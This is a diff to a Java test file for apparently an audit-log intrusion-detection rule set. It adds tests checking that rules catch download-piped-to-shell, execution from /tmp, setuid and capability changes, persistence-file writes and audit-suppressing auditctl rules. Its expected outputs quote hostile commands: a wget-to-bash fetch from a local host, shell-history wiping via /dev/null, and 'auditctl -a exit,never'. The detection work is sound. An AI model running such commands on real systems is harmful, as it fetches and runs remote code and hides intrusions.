@@ -273,7 +273,8 @@ class DefaultRulesTest {
         assertThat(fired(AUDITING_ENABLED)).contains("audit-rules-changed").doesNotContain("auditing-disabled");
         // the output names what changed: a rule (op, key, list) or a setting (its name and old value)
         assertThat(output("audit-rules-changed", capture(16611)))
-                .isEqualTo("audit configuration changed by unset: op=add_rule key=exec_changes list=4 res=1");
+                .isEqualTo("audit configuration changed by unset: op=add_rule key=exec_changes list=4 res=1"
+                        + " proctitle=auditctl -R capture.rules");
         assertThat(output("audit-rules-changed", AUDITING_ENABLED))
                 .isEqualTo("audit configuration changed by unset: audit_enabled=1 old=0 res=?");
     }
@@ -321,7 +322,7 @@ class DefaultRulesTest {
         assertThat(throttleKey(rule, TestEvents.serial(SETTINGS, 2202668)))
                 .isEqualTo(throttleKey(rule, TestEvents.serial(SETTINGS, 2202662)));
         assertThat(output("audit-rules-changed", TestEvents.serial(SETTINGS, 2202664)))
-                .isEqualTo("audit configuration changed by unset: op=set audit_failure=0 old=1 res=1");
+                .isEqualTo("audit configuration changed by unset: op=set audit_failure=0 old=1 res=1 proctitle=auditctl -f 0");
     }
 
     static final List<AuditEvent> ATTRIBUTES = TestEvents.resource("/rules/capture-attributes.log");
@@ -681,5 +682,47 @@ class DefaultRulesTest {
         assertThat(fired(TestEvents.serial(HISTORY, 2039187))).doesNotContain("shell-history-tampering");
         assertThat(output("shell-history-tampering", TestEvents.serial(HISTORY, 2040264)))
                 .isEqualTo("cloudsdk (root) tampered with shell history with /usr/bin/ln: ln -sf /dev/null /root/.bash_history");
+    }
+
+    static final List<AuditEvent> EVASION = TestEvents.resource("/rules/capture-evasion.log");
+
+    /**
+     * capture-evasion.sh: techniques a review found the defaults missed, each with one that must not fire: a
+     * download piped into a shell, a script in /tmp after an interpreter's options or by pyenv's python, a
+     * setuid file created by open(2), file capabilities, persistence files not watched before.
+     */
+    @Test
+    void shouldAlertOnTheTechniquesAReviewFoundMissed() {
+        Map<String, TreeSet<Long>> byRule = alertsByRule(EVASION);
+        // sh -c 'curl … | sh', sh -c 'wget -qO- … | bash'; not curl -o, not echo … | sh, not curl itself
+        assertThat(byRule.get("download-piped-to-shell")).containsExactly(2232237L, 2232240L);
+        // bash -x (the capture's own script), bash -e -x, python3 -u -B, pyenv's python3.11, bash -c '. /tmp/…';
+        // not bash -e -c 'echo /tmp/…', not python3 -u -c 'print(1)' /tmp/x.py
+        assertThat(byRule.get("exec-from-world-writable-dir"))
+                .containsExactly(2232233L, 2232247L, 2232248L, 2232249L, 2232250L);
+        // openat(O_CREAT, 04755); its directory (PARENT, mode 040755) is no exception for it
+        assertThat(byRule.get("setuid-setgid-bit-set")).containsExactly(2232254L);
+        // setcap cap_net_raw+ep; not setcap -v, not setcap -r
+        assertThat(byRule.get("file-capability-set")).containsExactly(2232257L);
+        // cron.hourly, rc.local, ld.so.conf.d, pam.d (each written, then removed), bash.bashrc and root's .bashrc
+        // (each appended to, then restored by cp -p: its open and its fsetxattr), root's authorized_keys written
+        // and removed; not mkdir /root/.ssh, not known_hosts, not the directory removed
+        assertThat(byRule.get("persistence-file-modified")).containsExactly(2232260L, 2232262L, 2232263L, 2232265L,
+                2232266L, 2232268L, 2232269L, 2232271L, 2232273L, 2232275L, 2232276L, 2232278L, 2232280L, 2232281L,
+                2232284L, 2232288L);
+        for (long quiet : new long[] {2232283, 2232285, 2232287, 2232289}) {
+            assertThat(fired(TestEvents.serial(EVASION, quiet))).as("serial %d", quiet)
+                    .doesNotContain("persistence-file-modified");
+        }
+        assertThat(output("download-piped-to-shell", TestEvents.serial(EVASION, 2232240))).isEqualTo(
+                "unset (root) piped a download into a shell: sh -c wget -qO- http://127.0.0.1:18931/i.sh | bash (cwd /)");
+    }
+
+    @Test
+    void shouldShowTheCommandLineOfAnAuditRuleChange() {
+        // auditctl -a exit,never …: what the rule does is in the command line, not in the CONFIG_CHANGE record
+        assertThat(output("audit-rules-changed", TestEvents.serial(EVASION, 2232291))).isEqualTo(
+                "audit configuration changed by unset: op=add_rule key=cap4never list=4 res=1"
+                        + " proctitle=auditctl -a exit,never -F arch=b64 -S getpid -k cap4never");
     }
 }
